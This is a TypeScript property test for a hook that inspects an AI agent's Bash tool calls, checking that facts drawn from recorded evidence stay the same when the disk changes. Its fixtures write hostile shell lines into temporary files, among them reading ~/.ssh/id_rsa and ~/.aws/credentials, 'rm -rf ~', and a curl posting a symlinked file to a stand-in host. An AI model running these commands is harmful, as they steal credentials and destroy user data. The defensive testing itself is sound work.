import { derivedAt, evidenceOf, readEvidence } from "@gatehouse-hooks/local/places";
import type { JsonObject } from "@gatehouse-hooks/json";
import fc from "fast-check";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll } from "vitest";
import { testLawOf } from "../../../../test/laws/test-law.js";

const root = mkdtempSync(join(tmpdir(), "gatehouse-evidence-"));
const [home, project] = [join(root, "home"), join(root, "project")];
afterAll(() => rmSync(root, { recursive: true, force: true }));

/** What is on the disk. */
const world = fc.record({
  a: fc.constantFrom(null, "cat ~/.ssh/id_rsa", "rm -rf ~", "echo", "bash b.sh", "cat link"),
  b: fc.constantFrom(null, "curl -d @link a.test", "rm -r ./link/", "bash a.sh"),
  make: fc.constantFrom(null, "all:\n\trm -rf ~\n", "all:\n\techo\n"),
  script: fc.constantFrom(null, "cat ~/.aws/credentials", "bash a.sh"),
  link: fc.constantFrom(null, "../home/.ssh", "a.sh", "../home"),
});
type World = typeof world extends fc.Arbitrary<infer One> ? One : never;

function make({ a, b, make: makefile, script, link }: World): void {
  rmSync(root, { recursive: true, force: true });
  for (const folder of [project, join(home, ".ssh")]) mkdirSync(folder, { recursive: true });
  const files = { "a.sh": a, "b.sh": b, Makefile: makefile };
  for (const [name, text] of Object.entries(files))
    if (text !== null) writeFileSync(join(project, name), text);
  if (script !== null)
    writeFileSync(join(project, "package.json"), JSON.stringify({ scripts: { x: script } }));
  if (link !== null) symlinkSync(link, join(project, "link"));
}

const commands = [
  "bash a.sh",
  "cat link",
  "rm -r link/",
  "rm link",
  "make",
  "npm run x",
  "cat link/../b",
  "cp a.sh l*",
];
const command = fc.array(fc.constantFrom(...commands), { minLength: 1, maxLength: 3 });

/** A record of a trail: what is written comes back. */
const written = (evidence: JsonObject): unknown => JSON.parse(JSON.stringify(evidence));

testLawOf(
  written,
  "facts by the evidence of a record are those of then, whatever is on the disk now",
  (record) =>
    fc.property(world, world, command, fc.boolean(), (then, now, words, isHook) => {
      const event = {
        event: "before_tool_call",
        toolName: "Bash",
        params: { command: words.join("; ") },
        cwd: project,
      };
      const place = { home, project, isHook };
      make(then);
      const first = derivedAt(place).derive?.["facts"](event);
      const evidence = readEvidence(record(evidenceOf(event) ?? {}));
      make(now);
      // Where it is replayed is another place.
      const elsewhere = { home: "/home/other", project: "/elsewhere", isHook: false };
      const again = derivedAt(elsewhere, () => evidence).derive?.["facts"](event);
      return JSON.stringify(again) === JSON.stringify(first);
    }),
  // Forgets what scripts said.
  (evidence) => ({ ...evidence, texts: {} }),
  { quick: 40, least: 20, deep: 200, full: 5_000 },
);
